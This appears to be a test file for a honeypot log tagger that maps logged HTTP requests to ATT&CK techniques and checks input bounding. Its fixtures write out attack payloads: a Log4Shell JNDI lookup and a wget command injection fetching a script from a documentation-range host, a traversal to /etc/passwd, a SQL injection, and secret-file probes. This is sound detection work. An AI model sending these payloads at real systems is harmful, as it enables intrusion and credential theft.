// HTTP requests as evidence: what the tagger makes of DECNET request events, read from real log lines.
import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {httpRequestText, MAX_HTTP_TEXT} from '../../src/logs/http-request.js'
import {parseLine} from '../../src/logs/parse.js'
import {Matcher} from '../../src/ttp/matcher.js'
import {loadRules} from '../../src/ttp/rule-loader.js'
import {tagLogs, type TtpLog} from '../../src/ttp/tagger.js'

/** A DECNET http `request` event as a stored row (parsed from its log line, as ingest stores it). */
function requestRow(id: number, method: string, path: string, headers: Record<string, string>, body = ''): TtpLog {
  const escape = (text: string) => text.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]')
  const sd = `method="${escape(method)}" path="${escape(path)}" remote_addr="203.0.113.7" headers="${escape(JSON.stringify(headers))}" body="${escape(body)}"`
  const parsed = parseLine(`<134>1 2026-11-26T13:32:51Z web-01 http - request [relay@55555 ${sd}]`)
  assert.ok(parsed.ok, parsed.ok ? '' : parsed.reason)
  const {line} = parsed
  return {attacker_ip: line.attackerIp, event_type: line.eventType, fields: JSON.stringify(line.fields), id, msg: line.msg, timestamp: line.timestamp!}
}

async function matcher(): Promise<Matcher> {
  const {attackVersion, rules} = await loadRules()
  return new Matcher(rules, {attackVersion})
}

function techniques(rows: TtpLog[], m: Matcher): string[] {
  return tagLogs(rows, m).tags.map((tag) => `${tag.log_id}:${tag.rule_id}:${tag.sub_technique_id ?? tag.technique_id}`).sort()
}

describe('HTTP request evidence', () => {
  it('reads method, path, headers and body of a request event, and nothing of the access and fingerprint events', () => {
    const row = requestRow(1, 'POST', '/login', {Host: 'web-01', 'User-Agent': 'curl/8.5.0'}, 'user=admin')
    assert.equal(httpRequestText({event_type: row.event_type, fields: row.fields}), 'POST /login\nHost: web-01\nUser-Agent: curl/8.5.0\n\nuser=admin')
    assert.equal(httpRequestText({event_type: 'http_access', fields: {method: 'GET', path: '/.env'}}), null)
    assert.equal(httpRequestText({event_type: 'http_request_fingerprint', fields: {method: 'GET', path: '/.env'}}), null)
    assert.equal(httpRequestText({event_type: 'request', fields: {user: 'root'}}), null)
    // https logs a Python-repr dict: kept as text, on one line
    assert.equal(httpRequestText({event_type: 'request', fields: {headers: "{'User-Agent': 'sqlmap/1.7'}", method: 'GET', path: '/'}}), "GET /\n{'User-Agent': 'sqlmap/1.7'}")
  })

  it('tags scanners, Log4Shell, traversal, SQL and command injection, and secret-file probes', async () => {
    const m = await matcher()
    const rows = [
      requestRow(1, 'GET', '/', {'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)'}),
      requestRow(2, 'GET', '/', {'User-Agent': '${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/a}'}),
      requestRow(3, 'GET', '/static/..%2f..%2f..%2fetc/passwd', {'User-Agent': 'curl/8.5.0'}),
      requestRow(4, 'POST', '/login', {}, "user=admin' or '1'='1&pwd=x"),
      requestRow(5, 'POST', '/boaform/admin/formPing', {}, 'target_addr=;wget http://198.51.100.9/m.sh'),
      requestRow(6, 'GET', '/.env', {'User-Agent': 'Mozilla/5.0'}),
      requestRow(7, 'GET', '/api/v1/namespaces/kube-system/secrets', {}),
      requestRow(8, 'GET', '/index.html', {'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0'}),
    ]
    assert.deepEqual(techniques(rows, m), [
      '1:initial-access.scanner-user-agent:T1595.002',
      '2:initial-access.log4shell-jndi:T1190',
      '3:initial-access.path-traversal:T1190',
      '4:initial-access.sql-injection:T1190',
      '5:initial-access.command-injection:T1059.004',
      '5:initial-access.command-injection:T1190',
      '6:credential-access.http-credential-files:T1552.001',
      '7:credential-access.http-k8s-service-account:T1552.007',
    ].sort())
    const evidence = tagLogs([rows[1]], m).tags[0].evidence
    assert.equal(evidence, 'User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/a}')
    assert.equal(tagLogs([rows[1]], m).tags[0].attack_version, '18.1')
  })

  it('bounds what the rules read of a hostile request, and a header cannot forge a line of its own', async () => {
    const m = await matcher()
    const huge = requestRow(1, 'GET', `/${'%2e'.repeat(6_000)}`, {'X-Pad': 'A'.repeat(20_000), 'X-Forged': 'a\nUser-Agent: sqlmap'}, 'B'.repeat(8_000))
    const text = httpRequestText({event_type: huge.event_type, fields: huge.fields})!
    assert.ok(text.length <= MAX_HTTP_TEXT, `${text.length}`)
    assert.ok(!/\nUser-Agent: sqlmap/.test(text))
    const result = m.match('http', text)
    assert.equal(result.unexamined, 0)
    assert.ok(result.examined <= MAX_HTTP_TEXT)
    assert.deepEqual(m.hits('http', text).map((hit) => hit.rule.id), [])
  })
})
